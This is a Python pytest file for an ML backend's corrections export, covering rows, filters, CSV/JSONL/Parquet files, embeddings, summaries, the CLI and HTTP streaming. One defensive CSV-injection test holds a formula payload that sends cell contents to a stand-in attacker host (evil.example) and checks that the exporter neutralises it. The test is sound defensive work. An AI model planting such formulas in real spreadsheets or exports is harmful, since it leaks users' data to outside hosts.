"""The corrections export: rows, filters, file formats, embeddings, summary, CLI and HTTP —
on records built through the real path (webhook payloads → feedback entries → a real store)."""

from __future__ import annotations

import copy
import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
from datetime import datetime, timezone
from pathlib import Path

import httpx
import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from backend.corrections.entries import entries_from_webhook, prediction_entry
from backend.corrections.export import (
    COLUMNS,
    correction_rows,
    export_corrections,
    parse_since,
)
from backend.corrections.records import apply
from backend.corrections.summary import summary
from backend.errors import ExportError
from backend.formats import spreadsheet_safe
from backend.store import BULK_READ, embedding_key
from backend.store.redis import RedisStore
from backend.store.sqlite import SqliteStore
from backend.web.app import create_app

from ..support.backend_server import BackendThread

REPO = Path(__file__).resolve().parents[2]
RECORDED = Path(__file__).parents[1] / "e2e" / "recorded"
CREATED = json.loads((RECORDED / "webhook_annotation_created.json").read_text())
DELETED = json.loads((RECORDED / "webhook_annotations_deleted.json").read_text())
CONFIG = ('<View><Image name="image" value="$image"/>'
          '<Choices name="animal" toName="image"><Choice value="Cat"/><Choice value="Dog"/>'
          '<Choice value="Bird"/></Choices>'
          '<Choices name="tags" toName="image" choice="multiple"><Choice value="Indoor"/>'
          '<Choice value="Outdoor"/><Choice value="Night"/></Choices>'
          '<Taxonomy name="kind" toName="image"><Choice value="Animal"><Choice value="Cat"/>'
          '<Choice value="Dog"/></Choice><Choice value="Toy"/></Taxonomy></View>')
LABEL = "test-model/none"  # what ModelSpec.label() gives for MODEL_NAME=test-model, MODEL_PRETRAINED=none
VERSION = f"{LABEL}:p1a2b3c4d"
KEY1 = embedding_key(LABEL, b"image of task 1")
VECTOR = np.array([0.5, -1.0, 2.0, 0.25], dtype=np.float32)  # exact in float16


# --- payloads as Label Studio sends them ----------------------------------------------------
def image(task: int) -> str:
    return f"/data/upload/4/{task}.jpg"


def choices(name: str, *labels: str, score: float | None = None) -> dict:
    region = {"from_name": name, "to_name": "image", "type": "choices", "value": {"choices": list(labels)}}
    return region if score is None else {**region, "score": score, "top_k": top_k(labels, score)}


def taxonomy(name: str, *paths: list[str], score: float | None = None) -> dict:
    region = {"from_name": name, "to_name": "image", "type": "taxonomy", "value": {"taxonomy": list(paths)}}
    return region if score is None else {**region, "score": score, "top_k": top_k(paths, score)}


def top_k(labels, score):
    return [{"label": label, "score": score} for label in labels] + [{"label": "Other", "score": 0.01}]


def annotated(annotation: int, task: int, result: list, *, day: int, project: int = 4, annotator: int = 1,
              cancelled: bool = False, snapshot: dict | None = None) -> dict:
    event = copy.deepcopy(CREATED)
    updated = f"2026-11-{day:02d}T10:00:00Z"
    event["project"].update(id=project, label_config=CONFIG)
    event["task"].update(id=task, project=project, data={"image": image(task)})
    event["annotation"].update(id=annotation, task=task, project=project, completed_by=annotator,
                               result=result, was_cancelled=cancelled, lead_time=4.2,
                               created_at=updated, updated_at=updated, prediction=snapshot or {})
    return event


def deleted(*annotations: int) -> dict:
    event = copy.deepcopy(DELETED)
    event["annotations"] = [{"id": a} for a in annotations]
    return event


def predicted(store, task: int, *regions: dict, project: str = "4") -> None:
    images = {r["from_name"]: {"image_ref": image(task), "embedding_key": KEY1 if task == 1 else None}
              for r in regions}
    prediction = {"model_version": VERSION, "score": min(r["score"] for r in regions), "result": list(regions)}
    apply(store, prediction_entry(project, task, prediction, images))


def webhook_into(store, event: dict) -> None:
    for entry in entries_from_webhook(event):
        apply(store, entry)


def feed(store) -> None:
    """Project 4: 11 accepted/changed/changed (animal/tags/kind), 12 changed, 13 added,
    14 removed, 15 skipped, 16 skipped with no control, 17 accepted then deleted; project 5: 18."""
    predicted(store, 1, choices("animal", "Cat", score=0.9), choices("tags", "Indoor", "Night", score=0.4),
              taxonomy("kind", ["Animal", "Cat"], score=0.7))
    webhook_into(store, annotated(11, 1, [choices("animal", "Cat"), choices("tags", "Indoor"),
                                          taxonomy("kind", ["Animal", "Dog"])], day=1))
    predicted(store, 2, choices("animal", "Dog", score=0.6))
    webhook_into(store, annotated(12, 2, [choices("animal", "Cat")], day=2, annotator=2))
    webhook_into(store, annotated(13, 3, [choices("animal", "Bird")], day=3, annotator=2))
    for task in (4, 5, 7):
        predicted(store, task, choices("animal", "Dog" if task != 4 else "Cat", score=0.8))
    webhook_into(store, annotated(14, 4, [], day=4))
    webhook_into(store, annotated(15, 5, [], day=5, cancelled=True))
    webhook_into(store, annotated(16, 6, [], day=6, cancelled=True))
    webhook_into(store, annotated(17, 7, [choices("animal", "Dog")], day=7, annotator=2))
    webhook_into(store, deleted(17))
    predicted(store, 8, choices("animal", "Cat", score=0.95), project="5")
    webhook_into(store, annotated(18, 8, [choices("animal", "Cat")], day=8, project=5, annotator=3))


@pytest.fixture(params=["sqlite", "redis"])
def store(request, tmp_path):
    opened = (SqliteStore(tmp_path / "store.sqlite3") if request.param == "sqlite"
              else RedisStore(request.getfixturevalue("redis_url")))
    feed(opened)
    yield opened
    opened.close()


def keyed(rows) -> dict:
    return {(r["annotation"], r["control"]): r for r in rows}


# --- rows -----------------------------------------------------------------------------------
def test_rows_hold_one_flat_row_per_annotation_and_control(store):
    rows = list(correction_rows(store, project="4"))
    assert all(tuple(row) == COLUMNS for row in rows)
    assert {key: row["status"] for key, row in keyed(rows).items()} == {
        ("11", "animal"): "accepted", ("11", "tags"): "changed", ("11", "kind"): "changed",
        ("12", "animal"): "changed", ("13", "animal"): "added", ("14", "animal"): "removed",
        ("15", "animal"): "skipped", ("16", None): "skipped"}
    first = keyed(rows)["11", "animal"]
    assert first == {**first, "project": "4", "task": "1", "annotator": 1, "type": "choices",
                     "predicted": ["Cat"], "final": ["Cat"], "predicted_score": 0.9,
                     "top_k": [{"label": "Cat", "score": 0.9}, {"label": "Other", "score": 0.01}],
                     "image_ref": image(1), "embedding_key": KEY1, "model_version": VERSION,
                     "ground_truth": False, "was_cancelled": False, "lead_time": 4.2,
                     "created_at": "2026-11-01T10:00:00Z", "updated_at": "2026-11-01T10:00:00Z",
                     "deleted_at": None}
    assert isinstance(first["received_at"], float)


def test_rows_keep_taxonomy_paths_removals_skips_and_additions(store):
    rows = keyed(correction_rows(store, project="4"))
    assert rows["11", "kind"]["type"] == "taxonomy"
    assert rows["11", "kind"]["predicted"] == [["Animal", "Cat"]] and rows["11", "kind"]["final"] == [["Animal", "Dog"]]
    assert rows["11", "tags"]["predicted"] == ["Indoor", "Night"] and rows["11", "tags"]["final"] == ["Indoor"]
    assert rows["13", "animal"]["predicted"] is None and rows["13", "animal"]["model_version"] is None
    assert rows["14", "animal"]["predicted"] == ["Cat"] and rows["14", "animal"]["final"] == []
    assert rows["15", "animal"]["was_cancelled"] is True and rows["15", "animal"]["predicted"] == ["Dog"]
    empty = rows["16", None]
    assert empty["type"] is None and empty["predicted"] is None and empty["final"] == [] and empty["top_k"] == []


def test_filters_project_since_only_changed_and_deleted(store):
    def annotations(**filters):
        return sorted({row["annotation"] for row in correction_rows(store, **filters)})

    assert annotations() == ["11", "12", "13", "14", "15", "16", "18"]
    assert annotations(project="5") == annotations(project="5.1700000000") == ["18"]
    assert annotations(project="4", since="2026-11-03") == ["13", "14", "15", "16"]
    since = datetime(2026, 11, 3, tzinfo=timezone.utc)
    assert annotations(project="4", since=since) == annotations(project="4", since=since.timestamp())
    assert annotations(since="2026-11-05T10:00:00Z") == ["15", "16", "18"]
    changed = correction_rows(store, project="4", only_changed=True)
    assert sorted(keyed(changed)) == [("11", "kind"), ("11", "tags"), ("12", "animal"),
                                      ("13", "animal"), ("14", "animal")]
    gone = keyed(correction_rows(store, project="4", include_deleted=True))["17", "animal"]
    assert gone["status"] == "accepted" and isinstance(gone["deleted_at"], float)


def test_since_accepts_datetimes_iso_strings_and_epoch_seconds():
    assert parse_since("2026-11-03") == parse_since("2026-11-03T00:00:00Z") == 1793664000.0
    assert parse_since("1793664000") == parse_since(1793664000) == 1793664000.0
    assert parse_since(datetime(2026, 11, 3)) == 1793664000.0  # naive = UTC
    assert parse_since("2026-11-03T01:00:00+01:00") == 1793664000.0
    assert parse_since(None) is None and parse_since("") is None
    for bad in ("nan", float("inf"), True, "2026-13-01"):
        with pytest.raises(ExportError):
            parse_since(bad)
    with pytest.raises(ExportError, match="since='yesterday'"):
        parse_since("yesterday")


# --- files ----------------------------------------------------------------------------------
def test_jsonl_and_csv_round_trip(store, tmp_path):
    rows = list(correction_rows(store))
    stats = export_corrections(store, tmp_path / "c.jsonl", "jsonl")
    lines = (tmp_path / "c.jsonl").read_text().splitlines()
    assert [json.loads(line) for line in lines] == rows
    assert (stats.rows, stats.annotations, stats.embeddings) == (len(rows), 7, 0)

    export_corrections(store, tmp_path / "c.csv", "csv")
    with (tmp_path / "c.csv").open(newline="") as fp:
        reader = csv.DictReader(fp)
        assert tuple(reader.fieldnames or ()) == COLUMNS
        back = list(reader)
    assert len(back) == len(rows)
    for row, cells in zip(rows, back):
        assert cells["annotation"] == row["annotation"] and cells["image_ref"] == (row["image_ref"] or "")
        assert json.loads(cells["final"]) == row["final"] and json.loads(cells["top_k"]) == row["top_k"]
        assert cells["predicted"] == ("" if row["predicted"] is None else json.dumps(row["predicted"]))
        assert cells["was_cancelled"] == json.dumps(row["was_cancelled"])


@pytest.mark.parametrize("text", ["=1+2", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_csv_cells_that_could_start_a_formula_get_an_apostrophe(text):
    assert spreadsheet_safe(text) == "'" + text
    assert spreadsheet_safe("a=1") == "a=1" and spreadsheet_safe("") == ""


def test_csv_neutralises_free_text_that_a_spreadsheet_would_run(store, tmp_path):
    """OWASP's CSV injection: a cell starting with = + - @ (tab, CR) is written with a leading
    apostrophe; numbers and JSON cells are left alone."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    event = annotated(31, 9, [choices("animal", "Cat")], day=9,
                      snapshot={"model_version": "@SUM(1+1)", "result": [choices("animal", "Dog", score=0.5)]})
    event["task"]["data"]["image"] = formula
    webhook_into(store, event)
    export_corrections(store, tmp_path / "c.csv", "csv")
    with (tmp_path / "c.csv").open(newline="") as fp:
        cells = next(row for row in csv.DictReader(fp) if row["annotation"] == "31")
    assert cells["image_ref"] == "'" + formula and cells["model_version"] == "'@SUM(1+1)"
    assert cells["final"] == '["Cat"]' and cells["task"] == "9" and cells["lead_time"] == "4.2"


def test_parquet_round_trip_with_labels_as_paths(store, tmp_path):
    stream = io.BytesIO()
    export_corrections(store, stream, "parquet", project="4")
    table = pq.read_table(io.BytesIO(stream.getvalue()))
    assert tuple(table.column_names) == COLUMNS
    assert table.schema.field("annotator").type == pa.int64()
    rows = keyed(table.to_pylist())
    assert rows["11", "animal"]["predicted"] == [["Cat"]]
    assert rows["11", "tags"]["predicted"] == [["Indoor"], ["Night"]]
    assert rows["11", "kind"]["final"] == [["Animal", "Dog"]]
    assert rows["11", "kind"]["top_k"][0] == {"label": ["Animal", "Cat"], "score": 0.7}
    assert rows["13", "animal"]["predicted"] is None and rows["16", None]["final"] == []
    assert rows["11", "animal"]["lead_time"] == 4.2 and rows["11", "animal"]["deleted_at"] is None


def test_embeddings_in_parquet_and_in_the_npy_companion(store, tmp_path):
    store.put_embedding(KEY1, VECTOR)                                        # by the row's key
    store.put_embedding(embedding_key(LABEL, b"task 3"), VECTOR * 2, image(3))  # by model and image
    store.put_embedding(embedding_key("other-model", b"task 2"), VECTOR, image(2))  # another model's

    export_corrections(store, tmp_path / "c.parquet", "parquet", project="4", embeddings=True,
                       model_label=LABEL)
    table = pq.read_table(tmp_path / "c.parquet")
    assert table.schema.field("embedding").type == pa.list_(pa.float32(), 4)
    rows = table.to_pylist()
    found = {(r["annotation"], r["control"]): r["embedding"] for r in rows if r["has_embedding"]}
    assert sorted(found) == [("11", "animal"), ("11", "kind"), ("11", "tags"), ("13", "animal")]
    assert found["13", "animal"] == (VECTOR * 2).tolist()
    assert all(r["embedding"] is None for r in rows if not r["has_embedding"])

    stats = export_corrections(store, tmp_path / "c.csv", "csv", project="4", embeddings=True,
                               model_label=LABEL)
    matrix = np.load(tmp_path / "c.embeddings.npy")
    assert stats.files == [str(tmp_path / "c.csv"), str(tmp_path / "c.embeddings.npy")] and stats.embeddings == 4
    with (tmp_path / "c.csv").open(newline="") as fp:
        back = list(csv.DictReader(fp))
    assert matrix.dtype == np.float32 and matrix.shape == (len(back), 4)
    for cells in back:
        vector = matrix[int(cells["embedding_row"])]
        if cells["has_embedding"] == "true":
            assert vector.tolist() in (VECTOR.tolist(), (VECTOR * 2).tolist())
        else:
            assert np.isnan(vector).all()
    with pytest.raises(ExportError, match="output file"):
        export_corrections(store, io.BytesIO(), "jsonl", embeddings=True, model_label=LABEL)


# --- summary --------------------------------------------------------------------------------
def test_summary_numbers_on_a_hand_checked_example(store):
    result = summary(correction_rows(store, project="4"))
    assert json.loads(json.dumps(result)) == result
    assert {k: result[k] for k in ("rows", "annotations", "compared", "accepted", "acceptance_rate")} == {
        "rows": 8, "annotations": 6, "compared": 5, "accepted": 1, "acceptance_rate": 0.2}
    assert result["by_status"] == {"accepted": 1, "added": 1, "changed": 3, "removed": 1, "skipped": 2}

    animal = result["controls"]["animal"]
    assert (animal["type"], animal["multi_label"], animal["rows"], animal["acceptance_rate"]) == ("choices", False, 5, 0.3333)
    assert animal["confusion"] == [{"predicted": "Cat", "final": "Cat", "count": 1},
                                   {"predicted": "Cat", "final": None, "count": 1},
                                   {"predicted": "Dog", "final": "Cat", "count": 1}]
    assert animal["labels"] == [
        {"label": "Cat", "predicted": 2, "final": 2, "agreed": 1, "precision": 0.5, "recall": 0.5},
        {"label": "Dog", "predicted": 1, "final": 0, "agreed": 0, "precision": 0.0, "recall": None}]
    tags = result["controls"]["tags"]
    assert tags["multi_label"] is True and tags["confusion"] is None
    assert [(t["label"], t["predicted"], t["final"], t["agreed"]) for t in tags["labels"]] == [
        ("Indoor", 1, 1, 1), ("Night", 1, 0, 0)]
    assert result["controls"]["kind"]["confusion"] == [
        {"predicted": ["Animal", "Cat"], "final": ["Animal", "Dog"], "count": 1}]

    people = {a["annotator"]: a for a in result["annotators"]}
    assert [a["annotator"] for a in result["annotators"]] == [1, 2]  # busiest first
    assert people[1]["by_status"] == {"accepted": 1, "changed": 2, "removed": 1, "skipped": 2}
    assert (people[1]["rows"], people[1]["annotations"], people[1]["acceptance_rate"]) == (6, 4, 0.25)
    assert (people[2]["rows"], people[2]["acceptance_rate"]) == (2, 0.0)
    assert [(v["model_version"], v["rows"]) for v in result["model_versions"]] == [(VERSION, 6), (None, 2)]


def test_summary_of_nothing():
    assert summary([]) == {"rows": 0, "annotations": 0, "by_status": {}, "compared": 0, "accepted": 0,
                           "acceptance_rate": None, "controls": {}, "annotators": [], "model_versions": []}


# --- CLI ------------------------------------------------------------------------------------
@pytest.fixture
def model_dir(tmp_path) -> Path:
    directory = tmp_path / "model-dir"
    directory.mkdir()
    store = SqliteStore(directory / "store.sqlite3")
    feed(store)
    store.put_embedding(KEY1, VECTOR)
    store.close()
    return directory


def cli(model_dir: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "MODEL_DIR": str(model_dir), "HF_HUB_OFFLINE": "1",
           "MODEL_NAME": "test-model", "MODEL_PRETRAINED": "none"}
    return subprocess.run([sys.executable, "-m", "backend", "export", *args], cwd=REPO, env=env,
                          capture_output=True, text=True, timeout=120)


def test_cli_exports_jsonl_to_stdout_and_parquet_with_embeddings(model_dir, tmp_path):
    done = cli(model_dir, "corrections", "--project", "4", "--only-changed")
    assert done.returncode == 0, done.stderr
    rows = [json.loads(line) for line in done.stdout.splitlines()]
    assert len(rows) == 5 and {r["status"] for r in rows} == {"changed", "added", "removed"}
    assert "exported 5 rows" in done.stderr

    out = tmp_path / "all.parquet"
    done = cli(model_dir, "corrections", "--output", str(out), "--embeddings", "--since", "2026-11-01")
    assert done.returncode == 0, done.stderr
    table = pq.read_table(out)
    assert table.num_rows == 9 and sum(table.column("has_embedding").to_pylist()) == 3


def test_cli_summary_matches_the_library(model_dir):
    done = cli(model_dir, "summary", "--project", "4")
    assert done.returncode == 0, done.stderr
    store = SqliteStore(model_dir / "store.sqlite3")
    assert json.loads(done.stdout) == summary(correction_rows(store, project="4"))
    store.close()


def test_cli_rejects_bad_arguments_with_what_to_fix(model_dir, tmp_path):
    done = cli(model_dir, "corrections", "--format", "parquet")
    assert done.returncode == 2 and "--output" in done.stderr
    done = cli(model_dir, "summary", "--since", "last week")
    assert done.returncode == 2 and "since='last week'" in done.stderr
    done = cli(tmp_path / "nowhere", "summary")
    assert done.returncode == 2 and "MODEL_DIR" in done.stderr
    assert not (tmp_path / "nowhere").exists()
    done = cli(model_dir, "corrections", "--output", str(tmp_path / "missing" / "c.csv"))
    assert done.returncode == 2 and "does not exist" in done.stderr
    done = cli(model_dir, "corrections", "--format", "xml")
    assert done.returncode == 2 and "invalid choice" in done.stderr


# --- HTTP -----------------------------------------------------------------------------------
@pytest.fixture
def served(tiny_settings):
    with BackendThread(create_app(tiny_settings)) as server:
        snapshot = {"model_version": VERSION, "result": [choices("animal", "Dog", score=0.7)]}
        events = [annotated(21, 1, [choices("animal", "Cat")], day=1, snapshot=snapshot),
                  annotated(22, 2, [choices("animal", "Dog")], day=2, snapshot=snapshot, annotator=2),
                  annotated(23, 3, [], day=3, cancelled=True),
                  annotated(24, 4, [choices("animal", "Bird")], day=4, project=5)]
        for event in events:
            assert httpx.post(server.url + "/webhook", json=event, timeout=30).status_code == 200
        yield server


def get(server, path, **params):
    return httpx.get(server.url + path, params=params, timeout=30)


def test_http_exports_each_format_with_its_media_type_and_filename(served):
    response = get(served, "/export/corrections", project="4")
    assert response.status_code == 200 and response.headers["content-type"] == "application/x-ndjson"
    assert response.headers["content-disposition"] == 'attachment; filename="corrections-project-4.jsonl"'
    *lines, trailer = response.text.splitlines()
    assert json.loads(trailer) == {"_export": {"complete": True, "rows": 3}}
    rows = [json.loads(line) for line in lines]
    assert [(r["annotation"], r["status"], r["predicted"]) for r in rows] == [
        ("21", "changed", ["Dog"]), ("22", "accepted", ["Dog"]), ("23", "skipped", None)]

    response = get(served, "/export/corrections", format="csv", since="2026-11-02", only_changed="true")
    assert response.headers["content-type"].startswith("text/csv")
    assert 'filename="corrections.csv"' in response.headers["content-disposition"]
    *lines, trailer = response.text.splitlines()
    assert [r["annotation"] for r in csv.DictReader(lines)] == ["24"]
    assert trailer.startswith("# ") and json.loads(trailer[2:]) == {"_export": {"complete": True, "rows": 1}}

    response = get(served, "/export/corrections", format="parquet", embeddings="true")
    assert response.headers["content-type"] == "application/vnd.apache.parquet"
    table = pq.read_table(io.BytesIO(response.content))
    assert table.num_rows == 4 and table.column_names[-2:] == ["has_embedding", "embedding"]


def test_http_summary(served):
    body = get(served, "/export/summary", project="4").json()
    assert (body["rows"], body["compared"], body["acceptance_rate"]) == (3, 2, 0.5)
    assert body["controls"]["animal"]["confusion"] == [{"predicted": "Dog", "final": "Cat", "count": 1},
                                                       {"predicted": "Dog", "final": "Dog", "count": 1}]
    assert get(served, "/export/summary", since="2026-11-04").json()["rows"] == 1


@pytest.mark.parametrize("params, message", [
    ({"format": "xml"}, "format 'xml'"),
    ({"since": "yesterday"}, "since='yesterday'"),
    ({"only_changed": "maybe"}, "bool"),
    ({"format": "csv", "embeddings": "true"}, "only with format=parquet"),
])
def test_http_rejects_bad_parameters_with_422(served, params, message):
    response = get(served, "/export/corrections", **params)
    assert response.status_code == 422 and message in response.text
    assert get(served, "/export/summary", since="soon").status_code == 422


# --- HTTP: every stream ends complete or visibly failed --------------------------------------
MANY = 1200  # more rows than one read batch (BULK_READ), so later batches are read on other threads
AUTH = ("exporter", "secret")  # every middleware in the path of the stream


@pytest.fixture
def many(tiny_settings):
    settings = tiny_settings.model_copy(update={"BASIC_AUTH_USER": AUTH[0], "BASIC_AUTH_PASS": AUTH[1]})
    with BackendThread(create_app(settings)) as server:
        store = server.app.state.backend.store
        assert isinstance(store, SqliteStore)
        for i in range(MANY):
            webhook_into(store, annotated(1000 + i, i, [choices("animal", "Cat")], day=1))
        yield server


def many_get(server, **params) -> httpx.Response:
    return httpx.get(server.url + "/export/corrections", params=params, auth=AUTH, timeout=120)


def test_http_streams_every_row_then_a_trailer_with_the_count(many):
    assert MANY > 2 * BULK_READ
    expected = [str(1000 + i) for i in range(MANY)]
    *lines, trailer = many_get(many).text.splitlines()
    assert [json.loads(line)["annotation"] for line in lines] == expected
    assert json.loads(trailer) == {"_export": {"complete": True, "rows": MANY}}

    *lines, trailer = many_get(many, format="csv").text.splitlines()
    assert [row["annotation"] for row in csv.DictReader(lines)] == expected
    assert trailer.startswith("# ") and json.loads(trailer[2:]) == {"_export": {"complete": True, "rows": MANY}}

    lines = many_get(many, trailer="false").text.splitlines()
    assert [json.loads(line)["annotation"] for line in lines] == expected
    assert pq.read_table(io.BytesIO(many_get(many, format="parquet").content)).num_rows == MANY


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_http_stream_that_fails_part_way_says_so_and_is_broken_off(many, fmt):
    """A record the store cannot read, in the second batch: the rows before it arrive, then a
    trailer saying the export is incomplete and why, then the transfer breaks off (no clean end
    of the chunked body), so no client takes it for complete."""
    with sqlite3.connect(many.app.state.backend.store.path) as db:  # not valid UTF-8
        db.execute("UPDATE corrections SET record = CAST(x'ff' AS TEXT) WHERE annotation = '1700'")
    db.close()
    lines: list[str] = []
    with pytest.raises(httpx.RemoteProtocolError):
        with httpx.stream("GET", many.url + "/export/corrections", params={"format": fmt, "trailer": "false"},
                          auth=AUTH, timeout=120) as response:
            assert response.status_code == 200
            lines.extend(response.iter_lines())
    *rows, trailer = lines
    assert len(rows) == BULK_READ + (fmt == "csv")  # the CSV header
    state = json.loads(trailer if fmt == "jsonl" else trailer.removeprefix("# "))["_export"]
    assert state["complete"] is False and state["rows"] == BULK_READ
    assert "embedded store" in state["error"] and "export again" in state["error"]
